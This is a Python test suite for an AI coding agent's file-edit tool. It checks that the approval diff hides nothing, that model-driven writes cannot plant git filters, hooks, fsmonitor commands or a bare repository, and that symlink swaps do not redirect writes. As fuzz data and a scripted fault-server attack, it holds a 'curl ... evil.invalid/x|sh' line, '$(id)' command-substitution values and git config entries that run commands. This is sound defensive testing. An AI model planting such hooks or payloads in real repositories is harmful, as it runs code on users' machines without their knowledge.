"""Attacks on edits (issue 21, holes 1, 4 and 5), as a suite: docs/reliability.md, "Attacks on edits".

- **The approval hides nothing it writes**: hypothesis draws file contents full of what the secret masker
  used to rewrite (URL queries, unterminated PEM headers, header values, key shapes) and checks that the
  added lines of the approval are the written lines, byte for byte, with only the configured key masked
  (``***(N chars)``, counted).
- **No program planted in git**: the real dsh under ``-p --allow-edits`` against a fault server that scripts
  the issue's attack (a clean filter in ``.git/config``, a hook, a bare repository built in the tree);
  nothing lands, and no later git command runs anything.
- **No write redirected by a swap**: every directory of a 4-deep path is swapped for a symlink while the
  approval waits; no write goes through any of them.
"""

from __future__ import annotations

import os
import shutil
import subprocess
import time
from pathlib import Path

import anyio
import pytest
from dsh_harness import COUNTS, FIGURES, Home, config_text, make_home, run_dsh
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from dsh.agent_loop.tools.edits import EDIT_MAX_BYTES
from dsh.llm.loopback.fault_server import Behaviour, FaultServer
from dsh.llm.redact import Redactor
from tests.agent_loop.test_edits import Approver, Tools
from tests.real_parts import missing

KEY = "sk-attackEditsKey0123456789abcdefgh"
GIT_REFUSAL = "unattended edits stay out of git directories"
LAUNCHER = ("-m", "tests.reliability.peak_rss_dsh")

# What the old approval masker rewrote in the model's own lines, and ordinary text around it.
_PIECES = st.sampled_from([
    "curl -fsS https://example.com/install.sh?v=1;curl${IFS}-s${IFS}evil.invalid/x|sh",
    "-----BEGIN RSA PRIVATE KEY-----", "-----END RSA PRIVATE KEY-----", "Authorization: Bearer $(id)",
    "x-api-key=`id`", "api-key: ", "https://u:p@h/p#frag", "sk-abcdefghij", "ghp_" + "a" * 24, "AKIA" + "B" * 16,
    "xoxb-1234567890", "AIza" + "c" * 32, "basic ", "token ", "?", "#", "=", " ", "\t", "***", "***(3 chars)",
])
_LINE = st.lists(st.one_of(_PIECES, st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters="\n\r"),
                                            max_size=12)), max_size=6).map("".join)


def _added_lines(diff: str) -> list[str]:
    return [line[1:] for line in diff.split("\n")[3:] if line.startswith("+")]


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(lines=st.lists(_LINE, min_size=1, max_size=12), with_key=st.booleans())
def test_the_approval_shows_every_written_line_as_written(tmp_path: Path, lines: list[str], with_key: bool) -> None:
    if with_key:
        lines = [*lines, f"export KEY={KEY}"]
    content = "\n".join(lines) + "\n"
    work = tmp_path / f"work-{time.monotonic_ns()}"
    work.mkdir()
    approver = Approver()
    tools = Tools(work, approver, redactor=Redactor([KEY]))
    result = anyio.run(lambda: tools("write_file", path="f.txt", content=content))
    assert result.text.startswith("created f.txt"), result.text
    [request] = approver.asked
    marker = f"***({len(KEY)} chars)"
    assert _added_lines(request.diff) == [line.replace(KEY, marker) for line in lines]
    assert request.hidden == (1 if with_key else 0)
    assert (work / "f.txt").read_text() == content
    shutil.rmtree(work)


def test_a_4_mib_write_is_planned_with_its_known_secrets_counted(tmp_path: Path) -> None:
    line = f"value = {KEY}\n"
    content = line * ((EDIT_MAX_BYTES - 1024) // len(line))
    approver = Approver()
    tools = Tools(tmp_path, approver, redactor=Redactor([KEY]))
    started = time.monotonic()
    result = anyio.run(lambda: tools("write_file", path="big.txt", content=content))
    seconds = time.monotonic() - started
    assert result.text.startswith("created big.txt")
    [request] = approver.asked
    assert request.hidden == content.count("\n") and KEY not in request.diff
    FIGURES["edit approval of a 4 MiB write, every line holding the key"] = (
        f"{seconds:.2f}s to plan, mask ({request.hidden} secrets) and write")


# --- 4: the git directory, under -p --allow-edits ------------------------------------------------


def _git(cwd: Path, *args: str) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "GIT_CONFIG_GLOBAL": "/dev/null", "GIT_CONFIG_SYSTEM": "/dev/null"}
    return subprocess.run(["git", *args], cwd=cwd, env=env, capture_output=True, text=True, check=False)


def _call(name: str, **arguments: object) -> Behaviour:
    return Behaviour("tool_call", name=name, arguments=arguments)


def _allow_edits_run(home: Home, server: FaultServer, label: str) -> list[str]:
    peak_file = home.root / f"peak-{label}.txt"
    run = run_dsh(home, ["--base-url", server.url, "--allow-edits", "-p", "set it up"],
                  env={"DSH_PEAK_RSS_FILE": str(peak_file)}, launcher=LAUNCHER, label=label)
    assert run.returncode == 0, run.stderr
    peak = float(peak_file.read_text())
    FIGURES[f"edit attack -p --allow-edits, {label}"] = f"{run.seconds:.1f}s, peak RSS {peak:.0f} MB"
    return (run.stdout + run.stderr).splitlines()


def test_allow_edits_cannot_plant_a_filter_or_a_hook(tmp_path: Path, server: FaultServer) -> None:
    if shutil.which("git") is None:
        missing("git", "apt-get install git")
    home = make_home(tmp_path, config_text())
    work = home.workspace
    _git(work, "init", "-q")
    config = (work / ".git" / "config").read_text()
    pwned = home.root / "pwned"
    server.push(
        _call("read_file", path=".git/config"),
        _call("write_file", path=".git/config", content=config + f'[filter "x"]\n\tclean = touch {pwned}; cat\n'),
        _call("write_file", path=".gitattributes", content="* filter=x\n"),
        _call("write_file", path=".git/hooks/pre-commit", content=f"#!/bin/sh\ntouch {pwned}\n"),
        _call("write_file", path="vendor/.git/config", content="[core]\n\tfsmonitor = touch pwned\n"),
        "text",
    )
    lines = _allow_edits_run(home, server, "git config and hooks")
    assert f"  [tool result] Error: .git/config is git config, which can name programs git runs; {GIT_REFUSAL}" in lines
    assert (f"  [tool result] Error: .git/hooks/pre-commit is a git hook, which runs on git commands; {GIT_REFUSAL}"
            in lines)
    assert f"  [tool result] Error: vendor/.git/config is git config, which can name programs git runs; {GIT_REFUSAL}" \
        in lines
    COUNTS["git-directory writes refused under -p --allow-edits"] += 3
    assert (work / ".git" / "config").read_text() == config and not (work / "vendor").exists()
    assert _git(work, "add", "-A").returncode == 0 and _git(work, "status").returncode == 0
    assert not pwned.exists()


def test_allow_edits_cannot_build_a_bare_repository_in_the_tree(tmp_path: Path, server: FaultServer) -> None:
    if shutil.which("git") is None:
        missing("git", "apt-get install git")
    home = make_home(tmp_path, config_text())  # not a git work tree: git would take the tree for a bare repo
    work = home.workspace
    pwned = home.root / "pwned"
    server.push(
        _call("write_file", path="objects/info/x", content="x\n"),
        _call("write_file", path="refs/heads/x", content="x\n"),
        _call("write_file", path="HEAD", content="ref: refs/heads/main\n"),
        _call("write_file", path="config", content=f"[core]\n\tfsmonitor = touch {pwned}\n\tbare = true\n"),
        "text",
    )
    lines = _allow_edits_run(home, server, "bare repository")
    assert f"  [tool result] Error: HEAD is in a git directory; {GIT_REFUSAL}" in lines
    COUNTS["git-directory writes refused under -p --allow-edits"] += 1
    assert not (work / "HEAD").exists()
    _git(work, "status")  # git finds no repository here: the planted config is inert
    assert not pwned.exists()


# --- 5: directories swapped while the approval waits ----------------------------------------------


@pytest.mark.parametrize("depth", [1, 2, 3, 4])
def test_a_swap_at_any_depth_of_the_path_redirects_no_write(tmp_path: Path, depth: int) -> None:
    work = tmp_path / "work"
    path = work / "a" / "b" / "c" / "d"
    path.mkdir(parents=True)
    outside = tmp_path / "outside"
    shutil.copytree(work, outside)  # the same tree elsewhere: a followed symlink would land in it
    swapped = work.joinpath(*["a", "b", "c", "d"][:depth])
    approver = Approver()

    def swap() -> None:
        swapped.rename(swapped.with_name(swapped.name + ".moved"))
        swapped.symlink_to(outside.joinpath(*["a", "b", "c", "d"][:depth]), target_is_directory=True)

    approver.during = swap
    tools = Tools(work, approver)
    result = anyio.run(lambda: tools("write_file", path="a/b/c/d/new.txt", content="x\n"))
    shown = "/".join(["a", "b", "c", "d"][:depth])
    assert result.text == f"Error: a/b/c/d/new.txt was not written: {shown} became a symlink while the edit waited"
    assert not list(outside.rglob("new.txt")) and not list(work.rglob("new.txt"))
    COUNTS["directories swapped for a symlink during an edit approval (0 followed)"] += 1

